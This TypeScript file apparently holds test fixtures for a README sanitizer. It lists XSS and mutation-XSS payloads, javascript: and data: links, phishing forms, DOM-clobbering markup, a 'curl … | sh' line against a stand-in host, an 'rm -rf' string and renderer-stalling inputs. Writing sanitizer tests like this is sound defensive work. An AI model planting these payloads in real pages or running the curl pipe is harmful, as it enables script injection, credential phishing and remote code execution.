/*
 * READMEs that want more than to be read: what is known to get through filters. A script that runs sets the title of the page, opens a
 * dialog, or asks another host.
 */

const taken = "document.title='taken'";
const elsewhere = "https://elsewhere.example";

/** By what they try. */
export const hostileReadmes: Readonly<Record<string, string>> = {
  script: `<script>${taken}</script>\n\n<SCRIPT SRC=${elsewhere}/x.js></SCRIPT>\n\n<scr<script>ipt>${taken}</scr</script>ipt>\n\na <script\n>${taken}</script\n> b`,
  handlers: [
    `<img src=x onerror="${taken}">`,
    `<img/src=x/onerror=${taken}>`,
    `<b onmouseover=${taken} onfocus=${taken} tabindex=0 autofocus>b</b>`,
    `<details open ontoggle=${taken}><summary>s</summary></details>`,
    `<body onload=${taken}>`,
    `<a href="#" onclick="${taken}" id=x>a</a>`,
    `<img src="x\` \`<script>${taken}</script>"\` \`>`,
    `<p onpointerrawupdate=${taken} style="position:fixed;inset:0">p</p>`,
    `![x](x"onerror="${taken})`,
    `[x](https://a.example "title" onclick="${taken}")`,
    `<https://a.example/"onclick="${taken}">`,
  ].join("\n\n"),
  links: [
    `[a](javascript:${taken})`,
    `[a](JaVaScRiPt:${taken})`,
    `[a](java&#x0A;script:${taken})`,
    `[a](java&Tab;script:${taken})`,
    `[a](&#106;avascript&colon;${taken})`,
    `[a](<\u0001javascript:${taken}>)`,
    `[a](javascript&#58;${taken})`,
    `[a](vbscript:msgbox)`,
    `[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
    `[a](data:text/html,<script>${taken}</script>)`,
    `[a](file:///etc/passwd) [a](blob:https://a.example/x) [a](filesystem:x) [a](view-source:x)`,
    `[ref]\n\n[ref]: javascript:${taken}`,
    `<javascript:${taken}>`,
    `<a href=" javascript:${taken}">a</a>`,
    `<a href="java\tscript:${taken}">a</a>`,
    `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${taken}">a</a>`,
    `<a href="\\x6aavascript:${taken}">a</a>`,
    `<a xlink:href="javascript:${taken}">a</a>`,
    `<a href="//elsewhere.example" ping="${elsewhere}/ping" target=_top download>a</a>`,
    `<area href="javascript:${taken}"><map name=m><area href="javascript:${taken}"></map>`,
  ].join("\n\n"),
  images: [
    `![a](${elsewhere}/pixel.png)`,
    `![a](//elsewhere.example/pixel.png)`,
    `![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
    `![a](javascript:${taken})`,
    `<img src="${elsewhere}/a.png" srcset="${elsewhere}/b.png 2x" sizes=1 lowsrc="${elsewhere}/c.png" dynsrc=x>`,
    `<picture><source srcset="${elsewhere}/d.png"><img src="${elsewhere}/e.png"></picture>`,
    `<table background="${elsewhere}/f.png"><tr><td background="${elsewhere}/g.png">x</td></tr></table>`,
    `<video src="${elsewhere}/v" poster="${elsewhere}/p" autoplay></video><audio src="${elsewhere}/a" autoplay></audio>`,
    `<input type=image src="${elsewhere}/h.png"><image src="${elsewhere}/i.png">`,
    `<img src="/readme-images/forged?url=${elsewhere}/j.png"><img src="/sign-out">`,
  ].join("\n\n"),
  foreign: [
    `<svg onload=${taken}><script>${taken}</script><a xlink:href="javascript:${taken}"><text>x</text></a><animate onbegin=${taken} attributeName=x dur=1s></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>${taken}</script>"></iframe></foreignObject><use href="data:image/svg+xml,<svg id=x>"/></svg>`,
    `<math><maction actiontype="statusline#x" xlink:href="javascript:${taken}">x</maction><mi//xlink:href="data:x,<script>${taken}</script>"></math>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${taken}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${taken}>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${taken}>">`,
    `<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=${taken}>">`,
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${taken}></style></annotation-xml></math>`,
  ].join("\n\n"),
  raw: [
    `<noscript><p title="</noscript><img src=x onerror=${taken}>">`,
    `<textarea><img title="</textarea><img src=x onerror=${taken}>"></textarea>`,
    `<title><img title="</title><img src=x onerror=${taken}>"></title>`,
    `<xmp><img title="</xmp><img src=x onerror=${taken}>"></xmp>`,
    `<iframe><img title="</iframe><img src=x onerror=${taken}>"></iframe>`,
    `<noembed><img title="</noembed><img src=x onerror=${taken}>"></noembed>`,
    `<template><img src=x onerror=${taken}><script>${taken}</script></template>`,
    `<!--><img src=x onerror=${taken}>-->`,
    `<!-- a --!><img src=x onerror=${taken}> -->`,
    `<![CDATA[<img src=x onerror=${taken}>]]>`,
    `<?xml version="1.0"?><?php <img src=x onerror=${taken}> ?>`,
    `<!DOCTYPE html [<!ENTITY x "<script>${taken}</script>">]>&x;`,
    `<a title="&lt;img src=x onerror=${taken}&gt;" <b>x</b>>y</a>`,
    `&lt;script&gt;${taken}&lt;/script&gt; &#60;script&#62; &#x3c;img src=x onerror=${taken}&#x3e;`,
    `\\<img src=x onerror=${taken}\\>`,
    `<img alt="a\u0000b" title='"><img src=x onerror=${taken}>'>`,
    `<select><option><style></option></select><b><style></style><img src=x onerror=${taken}>`,
    `<table><caption><style></caption><img src=x onerror=${taken}></style></table>`,
  ].join("\n\n"),
  pageParts: [
    `<style>@import "${elsewhere}/x.css"; * { display: none } body { background: url(${elsewhere}/y.png) }</style>`,
    `<link rel=stylesheet href="${elsewhere}/x.css"><link rel=prefetch href="${elsewhere}/p">`,
    `<meta http-equiv=refresh content="0;url=${elsewhere}"><meta http-equiv=set-cookie content=a=b>`,
    `<base href="${elsewhere}/">`,
    `<iframe src="${elsewhere}"></iframe><iframe srcdoc="<script>parent.${taken}</script>"></iframe>`,
    `<object data="${elsewhere}/x.swf"><embed src="${elsewhere}/x.swf"></object><applet code=x></applet>`,
    `<form action="${elsewhere}"><input name=password type=password autofocus><button formaction="javascript:${taken}">Sign in</button><select><option>x</select><textarea name=t></textarea></form>`,
    `<frameset><frame src="${elsewhere}"></frameset>`,
    `<dialog open>x</dialog><div popover id=pop>x</div><button popovertarget=pop>x</button>`,
    `<copy-text><code>curl ${elsewhere} | sh</code></copy-text><passkey-form></passkey-form>`,
    `<div class="notice wrong" style="background:url(${elsewhere}/z.png)" role="alert" aria-live="assertive" contenteditable>Your session is over: <a class="button" href="${elsewhere}">sign in</a></div>`,
    `</div></div></main></body></html><h1 id="content">outside</h1>`,
    `<p id="content" name="forms">x</p><a id="cookie" name="getElementById">x</a><img name="createElement" src=x><b id="__proto__">p</b><b id="constructor">c</b>`,
  ].join("\n\n"),
  direction: `\u202Etxet siht\u202C and [\u202Egnp.exe](https://a.example) \`\u2066rm -rf\u2069\``,
};

/** Names of what a browser asks from: nothing on a page may lead to it. */
export const foreignHost = "elsewhere.example";

/** READMEs that are made to keep a renderer busy, most of them 128 KiB. */
export const slowReadmes: Readonly<Record<string, string>> = {
  "nested quotes": fill(">"),
  "nested lists": fill("- "),
  "opening brackets": fill("["),
  "links that do not end": fill("[a]("),
  "emphasis that does not end": fill("**a *b "),
  backticks: Array.from({ length: 700 }, (_, index) => `e${"`".repeat(index)}`).join(""),
  addresses: fill("http://"),
  "a table of many cells": `|a|b|\n|-|-|\n${fill("|a|b|\n").slice(20)}`,
  footnotes: `${notes((index) => `[^${index}]`, "")}\n\n${notes((index) => `[^${index}]: x`, "\n\n")}`,
  "nested elements": fill("<div>"),
  "formatting that is opened again and again": `${"<b><i><u><s><em>".repeat(10)}${"<p>".repeat(20_000)}`,
  attributes: `<div ${Array.from({ length: 40_000 }, (_, index) => `a${index.toString(36)}`).join(" ")}>`,
  "comments that do not end": fill("<!--"),
};

function fill(text: string): string {
  return text.repeat(Math.floor((128 * 1024) / text.length));
}

function notes(note: (index: number) => string, between: string): string {
  return Array.from({ length: 9000 }, (_, index) => note(index)).join(between);
}
